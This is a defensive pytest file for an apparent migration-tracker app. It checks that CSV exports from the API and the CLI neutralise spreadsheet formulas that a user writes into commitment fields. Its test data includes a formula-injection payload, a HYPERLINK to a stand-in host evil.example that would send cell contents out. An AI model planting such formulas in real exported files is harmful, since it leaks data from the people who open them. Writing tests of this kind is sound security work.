"""Attack: formulas in tracker fields reach no CSV a spreadsheet would run (both databases).

A focal point writes a formula into a title and a partner; once published it appears in the
public list as CSV, in the export CSV and in `migobs tracker export`. No cell of those files may
begin with a character that starts a formula, except numbers.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from migobs.cli import cli
from migobs.spreadsheet import FORMULA_STARTS
from tests.tracker.conftest import People, TestClient, headers

pytestmark = pytest.mark.attack
LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
COMMITMENT = {
    "state": "484",
    "objectives": [1, 23],
    "title": "=1+1",
    "text": "@SUM(A1:A9)",
    "partners": [LEAK, "IOM", "+33 1 00 00 00 00"],
}


def live_cells(text: str) -> list[str]:
    """The cells of a CSV a spreadsheet would run as formulas."""
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell.startswith(FORMULA_STARTS) and not cell.lstrip("+-").replace(".", "").isdigit()
    ]


@pytest.fixture
def published(client: TestClient, people: People) -> int:
    mexico, reviewer = headers(client, "mexico"), headers(client, "reviewer")
    created = client.post("/api/tracker/commitments", json=COMMITMENT, headers=mexico)
    assert created.status_code == 201, created.text
    number = int(created.json()["id"])
    published = client.post(f"/api/tracker/commitments/{number}/publish", headers=reviewer)
    assert published.status_code == 200
    return number


def test_public_list_as_csv_escapes_formulas(client: TestClient, published: int) -> None:
    text = client.get("/api/tracker/commitments", params={"format": "csv"}).text
    assert live_cells(text) == []
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["title"] == "'=1+1" and row["text"] == "'@SUM(A1:A9)"
    assert row["id"] == str(published)  # numbers stay numbers


def test_export_csv_escapes_list_fields(client: TestClient, published: int) -> None:
    text = client.get("/api/tracker/export/commitments.csv").text
    assert live_cells(text) == []
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["partners"] == f"'{LEAK}; IOM; '+33 1 00 00 00 00"
    assert row["title"] == "'=1+1" and row["version"] == "2"


def test_cli_export_escapes_list_fields(tracker_url: str, tmp_path: Path, published: int) -> None:
    env = {"MIGOBS_HOME": str(tmp_path / "home"), "MIGOBS_TRACKER_URL": tracker_url}
    result = CliRunner().invoke(cli, ["tracker", "export", "--kind", "commitments"], env=env)
    assert result.exit_code == 0, result.output
    assert live_cells(result.output) == []
    assert f"'{LEAK}" in next(csv.DictReader(io.StringIO(result.output)))["partners"]
